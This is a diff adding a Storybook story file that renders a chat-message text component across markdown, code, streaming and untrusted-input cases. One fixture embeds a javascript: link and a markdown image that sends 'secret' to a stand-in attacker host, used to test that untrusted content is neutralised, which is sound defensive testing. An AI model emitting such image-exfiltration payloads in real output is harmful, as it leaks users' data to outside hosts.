@@ -1,0 +1,113 @@
+import type { Meta, StoryObj } from '@storybook/react-vite'
+import { expect, userEvent, within } from 'storybook/test'
+import { TextPart } from '../src/components/TextPart'
+import type { TextPart as TextPartData } from '../src/core/model/types'
+import { opencodeSession } from '../test/fixtures/opencode'
+import { Cell, highlighted, Matrix } from './support/matrix'
+
+const real = opencodeSession.messages[0]?.parts[0] as TextPartData
+const text = (id: string, value: string, extra: Partial<TextPartData> = {}): TextPartData => ({ ...real, id, text: value, ...extra })
+
+const rich = `# Heading one
+## Heading two
+
+A paragraph with **bold**, *italic*, ~~struck~~ and \`inline code\`, plus an autolink: https://example.com/docs.
+
+1. First step
+2. Second step
+   - nested bullet
+
+| Package | Size | Change |
+|---|---:|:---:|
+| core | 12.4 KB | +3% |
+| protocols | 30.1 KB | −1% |
+
+- [x] parse the stream
+- [ ] render the tail
+
+> A quote from the model.`
+
+const code = `\`\`\`ts
+// the answer, typed
+export const answer: number = 42
+\`\`\`
+
+\`\`\`python
+def main() -> int:
+    print("hello")  # greet
+    return 0
+\`\`\`
+
+\`\`\`bash
+npm ci && npm test
+\`\`\``
+
+const long = `A very long line: ${'streaming-markdown-renderers-must-wrap-or-scroll-'.repeat(6)}end.
+
+\`\`\`json
+{"a_very_long_key_that_goes_on": "${'x'.repeat(140)}"}
+\`\`\``
+
+const matrix: { name: string; part: TextPartData; streaming?: boolean }[] = [
+  { name: 'real user message (opencode)', part: real },
+  { name: 'headings, lists, table, task list, quote', part: text('p1', rich) },
+  { name: 'code in TypeScript, Python and Bash', part: text('p2', code) },
+  { name: 'long lines', part: text('p3', long) },
+  { name: 'streaming: unclosed fence and bold mid-token', part: text('p4', 'Here is the fix, **very** import\n\n```ts\nexport function fetchUser(id: string) {\n  return fe'), streaming: true },
+  { name: 'streaming: half-typed table', part: text('p5', '| File | Lines |\n|--'), streaming: true },
+  { name: 'synthetic (added by the agent)', part: text('p6', 'Summary of the conversation so far.', { synthetic: true }) },
+  { name: 'ignored', part: text('p7', 'This message was not sent to the model.', { ignored: true }) },
+  { name: 'untrusted: raw HTML, script link, remote image', part: text('p8', 'Raw <b>html</b> stays text. [A script link](javascript:alert(1)) ![tracker](https://attacker.example/p.png?d=secret)') },
+]
+
+const meta = {
+  title: 'Parts/TextPart',
+  component: TextPart,
+} satisfies Meta<typeof TextPart>
+
+export default meta
+
+type Story = StoryObj<typeof meta>
+
+/** Every state of text: GFM, highlighted code, long lines, mid-stream shapes, synthetic and ignored text, untrusted input. */
+export const States: Story = {
+  args: { part: real },
+  render: () => (
+    <Matrix>
+      {matrix.map(({ name, part, streaming }) => (
+        <Cell key={part.id} name={name}>
+          <TextPart part={part} streaming={streaming} />
+        </Cell>
+      ))}
+    </Matrix>
+  ),
+  play: async ({ canvasElement }) => {
+    await highlighted(canvasElement)
+    const canvas = within(canvasElement)
+    await expect(canvas.getAllByRole('table')).toHaveLength(2)
+    const streaming = within(canvas.getByRole('region', { name: 'streaming: unclosed fence and bold mid-token' }))
+    await expect(streaming.queryByText(/```|\*\*/)).toBeNull()
+    await expect(canvas.queryByRole('link', { name: 'A script link' })).toBeNull()
+  },
+}
+
+/** Copying a code block: the button says "Copied". */
+export const CopyCode: Story = {
+  args: { part: text('p9', '```sh\nnpm ci && npm test\n```') },
+  play: async ({ canvasElement }) => {
+    await highlighted(canvasElement)
+    const canvas = within(canvasElement)
+    Object.defineProperty(navigator, 'clipboard', { value: { writeText: () => Promise.resolve() }, configurable: true })
+    await userEvent.click(canvas.getByRole('button', { name: 'Copy code' }))
+    await expect(await canvas.findByText('Copied')).toBeVisible()
+  },
+}
+
+/** Dark theme and Chinese labels over rich text and code. */
+export const DarkChinese: Story = {
+  args: { part: text('p10', `${rich}\n\n${code}`) },
+  globals: { theme: 'dark', locale: 'zh-CN' },
+  play: async ({ canvasElement }) => {
+    await highlighted(canvasElement)
+  },
+}
